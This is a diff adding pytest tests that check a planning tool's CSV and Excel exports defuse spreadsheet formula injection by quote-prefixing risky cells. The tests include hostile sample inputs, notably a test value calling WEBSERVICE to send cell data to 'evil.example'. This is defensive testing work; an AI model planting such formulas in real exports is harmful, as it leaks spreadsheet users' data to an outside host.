@@ -45,6 +45,18 @@ def test_numeric_columns_stay_numbers():
     assert frame["name"].tolist() == ["=1+1", "ok"]  # the input is not changed
 
 
+def test_categorical_and_string_columns_are_text_too():
+    frame = pd.DataFrame({"segment": pd.Categorical(["@SUM(A1)", "SMB", "@SUM(A1)"]),
+                          "name": pd.array(["+1+1", None, "x"], dtype="string"),
+                          "when": pd.to_datetime(["2026-01-01"] * 3), "ok": [True] * 3})
+    out = safe_frame(frame)
+    assert out["segment"].tolist() == ["'@SUM(A1)", "SMB", "'@SUM(A1)"]
+    assert out["name"].tolist()[0] == "'+1+1"
+    assert pd.isna(out["name"].tolist()[1])
+    assert out["when"].dtype == frame["when"].dtype
+    assert out["ok"].dtype == bool
+
+
 @pytest.fixture
 def hostile_db(small_copy):
     with Store(small_copy) as s:
@@ -71,6 +83,16 @@ def test_command_line_csv(hostile_db, capsys):
         float(r[head.index("potential")])
 
 
+def test_command_line_csv_of_plan_names(hostile_db, capsys):
+    with Store(hostile_db) as s:
+        s.cursor().execute("UPDATE plans SET name = ? WHERE name = 'Base'", ["-2+3"])
+    assert main(["plan", "list", "--db", str(hostile_db), "--format", "csv"]) == 0
+    table = csv_cells(capsys.readouterr().out)
+    names = [r[table[0].index("name")] for r in table[1:]]
+    assert "'-2+3" in names
+    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)
+
+
 def test_excel_export_keeps_text_as_text(hostile_db, tmp_path):
     out = tmp_path / "plan.xlsx"
     assert main(["export", "--db", str(hostile_db), "--format", "xlsx", "--out", str(out)]) == 0
@@ -82,8 +104,14 @@ def test_excel_export_keeps_text_as_text(hostile_db, tmp_path):
                 assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                 if cell.value in HOSTILE:
                     assert cell.data_type == "s"
+                    assert cell.quotePrefix, (ws.title, cell.coordinate)  # text when edited
                     seen += 1
+                elif isinstance(cell.value, str):
+                    assert not cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
     assert seen >= len(NAMES)  # the names are there, exactly as typed
+    head = [c.value for c in book["territories"][1]]  # numeric columns are still numbers
+    potential = [r[head.index("potential")].value for r in book["territories"].iter_rows(2)]
+    assert all(isinstance(v, (int, float)) for v in potential if v is not None)
 
 
 def test_salesforce_bundle(hostile_db, tmp_path):
@@ -122,10 +150,18 @@ def test_app_downloads():
     from ui.downloads import csv_bytes, excel_bytes
 
     frame = pd.DataFrame({"territory_name": HOSTILE, "potential": [-5.0] * len(HOSTILE)})
-    filters = {"plan": HOSTILE[0]}
+    # a comma in a value must not start a cell of its own (`Q3,=WEBSERVICE(...)`)
+    filters = {"plan": HOSTILE[0], "territory": 'Q3,=WEBSERVICE("http://evil.example/"&A5)',
+               "rep": "@SUM(A1:A9)"}
     text = csv_bytes(frame, filters).decode("utf-8")
+    head = []
     while text.startswith("#"):  # the filter lines come first
-        text = text.split("\n", 1)[1]
+        line, text = text.split("\r\n", 1)
+        head.append(next(csv.reader([line])))
+    assert head == [["# plan:", "'" + HOSTILE[0]], ["# territory:", filters["territory"]],
+                    ["# rep:", "'@SUM(A1:A9)"]]
+    back = pd.read_csv(io.BytesIO(csv_bytes(frame, filters)), comment="#")
+    assert back["potential"].tolist() == [-5.0] * len(HOSTILE)  # read back by pandas
     table = csv_cells(text)
     assert [r[0] for r in table[1:]] == ["'" + h for h in HOSTILE]
     assert {r[1] for r in table[1:]} == {"-5.0"}
@@ -138,4 +174,7 @@ def test_app_downloads():
     # back as "\r" and openpyxl leaves as it is)
     values = [c.value.replace("_x000D_", "\r") for c in book.worksheets[0]["A"][1:]]
     assert values == HOSTILE  # exactly as typed, stored as text
+    assert all(c.data_type == "s" and c.quotePrefix for c in book.worksheets[0]["A"][1:])
     assert book.worksheets[0]["B2"].value == -5
+    assert book["filters"]["B2"].quotePrefix
+    assert book["filters"]["B2"].value == HOSTILE[0]
